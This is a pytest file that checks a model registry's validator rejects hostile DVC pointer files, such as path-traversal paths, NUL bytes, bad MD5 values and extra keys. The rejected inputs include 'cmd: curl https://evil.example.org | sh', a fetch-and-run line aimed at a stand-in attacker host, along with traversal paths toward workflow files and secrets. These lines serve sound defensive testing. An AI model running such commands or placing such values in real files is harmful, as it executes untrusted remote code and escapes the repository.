"""What a pointer may say, held to the hostile inputs of the cases 1 to 3: each is told at its line, by one problem."""

from __future__ import annotations

import pytest

from modelyard.names import VersionId
from modelyard.rules.engine import judge
from support.snapshots import snapshot_with

MD5 = "a2d5d04c767f0300f5a849af0517910c"
PATH = "fraud-1.1.0/model.joblib.dvc"
PLAIN_NAME = "move the file beside its pointer, give it a plain name, and run `dvc add <file>` there"
ADD_AGAIN = "write the pointer with `dvc add <file>` or `modelyard register`, and never by hand"


def told(pointer: str) -> list[tuple[str, str, str]]:
    """Return code and place, message and hint of each problem of a version with this pointer."""
    problems = judge(snapshot_with({PATH: pointer}), [VersionId.parse("fraud@1.1.0")]).problems
    assert {problem.path for problem in problems} == {f"model_registry/{PATH}"}
    return [
        (f"{problem.code} {problem.position.line}:{problem.position.column}", problem.message, problem.hint)
        for problem in problems
        if problem.position
    ]


def pointer(*, path: str = "model.joblib", md5: str = MD5, size: str = "25", more: str = "") -> str:
    return f"outs:\n- md5: {md5}\n  size: {size}\n  hash: md5\n  path: {path}\n{more}"


@pytest.mark.parametrize(
    ("path", "message"),
    [
        ("../../.github/workflows/x.yml", "'../../.github/workflows/x.yml' is not one plain file name"),
        ("/abs", "'/abs' is not one plain file name"),
        ("../y-1.0.0/m", "'../y-1.0.0/m' is not one plain file name"),
        ("a/../b", "'a/../b' is not one plain file name"),
        ("..", "path '..' leads out of its directory by '..'"),
        (r"C:\x", r"path 'C:\\x' holds a backslash"),
        (r"a\b", r"path 'a\\b' holds a backslash"),
        ('""', "the path is empty"),
        (".git", "path '.git' leads into Git's own directory"),
        (".dvcignore", "'.dvcignore' is a file of Git's or DVC's own"),
    ],
)
def test_case_01_a_path_that_is_no_plain_name_beside_the_pointer(path: str, message: str) -> None:
    assert told(pointer(path=path)) == [("MY401 5:9", f"'path': {message}", PLAIN_NAME)]


@pytest.mark.parametrize("path", ["m\0", r'"m\0"'])
def test_case_01_a_path_with_nul(path: str) -> None:
    place = "MY206 5:10" if path == "m\0" else "MY206 5:9"
    assert told(pointer(path=path)) == [(place, "the control character U+0000 is not allowed", "delete it")]


@pytest.mark.parametrize("path", ["12", "[m]", "{m: 1}", "true"])
def test_case_01_a_path_that_is_no_text(path: str) -> None:
    assert told(pointer(path=path)) == [("MY401 5:9", "'path' must be text", ADD_AGAIN)]


@pytest.mark.parametrize(
    "md5", [MD5.upper(), "../..", '""', MD5[:-1], MD5 + "0", MD5 + ".DIR", MD5 + ".dirs", "é" * 32]
)
def test_case_02_an_md5_that_is_not_32_lower_hexadecimal_digits(md5: str) -> None:
    shown = "''" if md5 == '""' else repr(md5)
    message = f"'md5': {shown} is not an MD5 of 32 lower-case hexadecimal digits, with '.dir' after it for a directory"
    assert told(pointer(md5=md5)) == [("MY401 2:8", message, ADD_AGAIN)]


@pytest.mark.parametrize("md5", ["[a]", "12345678", "{a: b}", "true"])
def test_case_02_an_md5_that_is_no_text(md5: str) -> None:
    assert told(pointer(md5=md5)) == [("MY401 2:8", "'md5' must be text", ADD_AGAIN)]


@pytest.mark.parametrize(
    ("line", "key"),
    [
        ("  cmd: curl https://evil.example.org\n", "cmd"),
        ("  repo: {url: https://evil.example.org}\n", "repo"),
        ("  remote: evil\n", "remote"),
        ("  cache: false\n", "cache"),
        ("  push: false\n", "push"),
        ("  persist: true\n", "persist"),
        ("  cloud: {evil: {etag: a}}\n", "cloud"),
        ("  version_id: abc\n", "version_id"),
        ("  files: []\n", "files"),
        ("  annotation: x\n", "annotation"),
    ],
)
def test_case_03_a_key_of_the_output_beyond_the_plain_ones(line: str, key: str) -> None:
    message = f"key '{key}' is refused in a pointer: only md5, size, nfiles, hash, path are allowed"
    assert told(pointer(more=line)) == [("MY401 6:3", message, ADD_AGAIN)]


@pytest.mark.parametrize(
    "line",
    [
        "deps:\n- path: ../../secret\n",
        "cmd: curl https://evil.example.org | sh\n",
        "wdir: ../..\n",
        "frozen: true\n",
        "meta: {a: 1}\n",
        "desc: a model\n",
        "md5: " + MD5 + "\n",
        "always_changed: true\n",
    ],
)
def test_case_03_a_key_of_the_pointer_beyond_outs(line: str) -> None:
    message = f"key '{line.partition(':')[0]}' is refused in a pointer: a pointer may hold 'outs' alone"
    assert told(pointer(more=line)) == [("MY401 6:1", message, ADD_AGAIN)]


def test_case_03_each_key_is_told() -> None:
    found = told("cmd: sh\nwdir: ..\n" + pointer(more="  cache: false\n  push: false\n"))
    assert [place for place, _message, _hint in found] == ["MY401 1:1", "MY401 2:1", "MY401 8:3", "MY401 9:3"]


def test_case_03_two_outputs() -> None:
    hint = "Give each file or directory a pointer of its own: `dvc add <file>`"
    second = f"- md5: {MD5}\n  size: 25\n  hash: md5\n  path: other\n"
    assert told(pointer(more=second)) == [("MY401 2:1", "a pointer must name exactly one output in 'outs'", hint)]


def test_a_pointer_of_dvc_2_names_the_command_that_migrates_it() -> None:
    message = "'hash: md5' is missing: this pointer was written by DVC 2 or older"
    hint = "run `dvc cache migrate --dvc-files` with DVC 3, and commit the pointer it writes"
    assert told(f"outs:\n- md5: {MD5}\n  size: 25\n  path: model.joblib\n") == [("MY401 2:3", message, hint)]
